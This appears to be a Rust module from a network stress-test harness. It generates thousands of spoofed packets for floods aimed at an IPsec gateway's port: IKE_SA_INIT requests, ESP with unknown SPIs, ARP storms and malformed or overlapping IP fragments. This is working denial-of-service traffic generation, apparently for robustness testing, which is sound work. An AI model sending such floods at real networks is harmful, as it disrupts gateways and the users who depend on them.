//! The packets of each flood, some thousands of different ones: what an attacker on the access network can make up.

use super::build::{Dice, Mac, Part, arp, ip, ip_frame, udp};
use std::net::{IpAddr, Ipv4Addr};

/// Different packets of a flood.
pub const DIFFERENT: usize = 8192;
const ESP: u8 = 50;
const UDP: u8 = 17;
/// x and y of the base point of ECP-256 (RFC 5903 section 3.1): a public value that passes every check.
const ECP_256_BASE: &str = "6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296\
                            4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5";

/// Whom a flood hits.
#[derive(Debug, Clone, Copy)]
pub struct Target {
    /// The port's station address.
    pub mac: Mac,
    /// The gateway's address of each family on that link.
    pub addresses: [IpAddr; 2],
}

impl Target {
    /// Address of a family by turns.
    fn address(&self, number: usize) -> IpAddr {
        self.addresses[number % 2]
    }
}

fn many(seed: u64, mut packet: impl FnMut(usize, &mut Dice) -> Vec<u8>) -> Vec<Vec<u8>> {
    let mut dice = Dice(seed);
    (0..DIFFERENT).map(|n| packet(n, &mut dice)).collect()
}

/// IKE_SA_INIT requests that the gateway would accept, from addresses and SPIs that never come back (RFC 7296 section 1.2).
pub fn sa_init(target: Target) -> Vec<Vec<u8>> {
    let public = hex(ECP_256_BASE);
    many(1, |n, dice| {
        let to = target.address(n);
        let from = dice.stranger(to.is_ipv6());
        let message = sa_init_message(dice, &public);
        let datagram = udp((from, 500), (to, 500), &message);
        ip_frame(target.mac, dice.mac(), &ip(from, to, UDP, &datagram, None))
    })
}

/// The message: AES-GCM-256, HMAC-SHA2-256, ECP-256, a nonce.
pub fn sa_init_message(dice: &mut Dice, public: &[u8]) -> Vec<u8> {
    let transforms: [&[u8]; 3] = [
        // last or more, length, type, id, attribute
        &[3, 0, 0, 12, 1, 0, 0, 20, 0x80, 14, 1, 0],
        &[3, 0, 0, 8, 2, 0, 0, 5],
        &[0, 0, 0, 8, 4, 0, 0, 19],
    ];
    let transforms = transforms.concat();
    let mut proposal = vec![0, 0, 0, (8 + transforms.len()) as u8, 1, 1, 0, 3];
    proposal.extend(transforms);
    let key_exchange = [&[0, 19, 0, 0], public].concat();
    let payloads = [
        payload(34, &proposal),
        payload(40, &key_exchange),
        payload(0, &dice.octets(32)),
    ]
    .concat();
    let mut message = Vec::with_capacity(28 + payloads.len());
    message.extend((dice.roll() | 1).to_be_bytes());
    message.extend([0; 8]);
    message.extend([33, 0x20, 34, 0x08]);
    message.extend([0; 4]);
    message.extend(((28 + payloads.len()) as u32).to_be_bytes());
    message.extend(payloads);
    message
}

fn payload(next: u8, body: &[u8]) -> Vec<u8> {
    let mut payload = vec![next, 0];
    payload.extend(((4 + body.len()) as u16).to_be_bytes());
    payload.extend(body);
    payload
}

fn hex(text: &str) -> Vec<u8> {
    let digits: Vec<u8> = text
        .chars()
        .filter_map(|c| c.to_digit(16))
        .map(|d| d as u8)
        .collect();
    digits
        .chunks(2)
        .map(|pair| pair[0] << 4 | pair[1])
        .collect()
}

/// ESP with SPIs that nobody has, over protocol 50 and over UDP 4500 by turns.
pub fn esp(target: Target) -> Vec<Vec<u8>> {
    many(2, |n, dice| {
        let to = target.address(n / 2);
        let from = dice.stranger(to.is_ipv6());
        let mut packet = dice.octets(120);
        // 0 to 255 are reserved, and zero on port 4500 is IKE's marker.
        packet[0] |= 0x40;
        let packet = if n % 2 == 0 {
            ip(from, to, ESP, &packet, None)
        } else {
            let datagram = udp((from, 4500), (to, 4500), &packet);
            ip(from, to, UDP, &datagram, None)
        };
        ip_frame(target.mac, dice.mac(), &packet)
    })
}

/// ARP of stations and addresses that nobody has: requests for us and for others, announcements, unasked replies. The senders are
/// half from the link's own subnet (`.100` to `.254`), half from elsewhere.
pub fn arp_storm(target: Target) -> Vec<Vec<u8>> {
    let ours = match target.addresses {
        [IpAddr::V4(ours), _] | [_, IpAddr::V4(ours)] => ours,
        _ => Ipv4Addr::UNSPECIFIED,
    };
    let [a, b, c, _] = ours.octets();
    many(3, |n, dice| {
        let near = Ipv4Addr::new(a, b, c, 100 + dice.below(155) as u8);
        let far = match dice.stranger(false) {
            IpAddr::V4(far) => far,
            IpAddr::V6(_) => near,
        };
        let sender = (dice.mac(), if n % 2 == 0 { near } else { far });
        match n / 2 % 4 {
            0 => arp(1, sender, ([0; 6], ours)),
            1 => arp(1, sender, ([0; 6], near)),
            2 => arp(1, sender, ([0; 6], sender.1)),
            _ => arp(2, sender, (target.mac, ours)),
        }
    })
}

/// Fragments that lead nowhere, of both families: first ones without a rest, rests without a first, overlapping and tiny ones, of IKE,
/// of ESP and of nothing.
pub fn fragments(target: Target) -> Vec<Vec<u8>> {
    let mut overlapped = None;
    many(4, |n, dice| {
        let to = target.address(n);
        let from = dice.stranger(to.is_ipv6());
        let body = dice.octets(400);
        let ports = [500, 4500, 3784];
        let datagram = udp((from, 500), (to, ports[n / 2 % 3]), &body);
        let protocol = if n / 2 % 7 == 6 { ESP } else { UDP };
        let id = dice.roll() as u32;
        let part = |offset, more| Some(Part { id, offset, more });
        let packet = match n / 2 % 5 {
            // A first fragment whose rest never comes.
            0 => ip(from, to, protocol, &datagram, part(0, true)),
            // The rest of a datagram that never began.
            1 => ip(from, to, protocol, &datagram[..96], part(1480, false)),
            // Tiny, with more to follow.
            2 => ip(from, to, protocol, &datagram[..4], part(0, true)),
            // Two of one datagram that overlap.
            3 => {
                let first = Part {
                    id,
                    offset: 0,
                    more: true,
                };
                overlapped = Some((
                    from,
                    to,
                    Part {
                        offset: 200,
                        ..first
                    },
                ));
                ip(from, to, protocol, &datagram, Some(first))
            }
            _ => match overlapped.take() {
                Some((from, to, second)) => ip(from, to, UDP, &body, Some(second)),
                None => ip(from, to, protocol, &datagram, part(64, true)),
            },
        };
        ip_frame(target.mac, dice.mac(), &packet)
    })
}
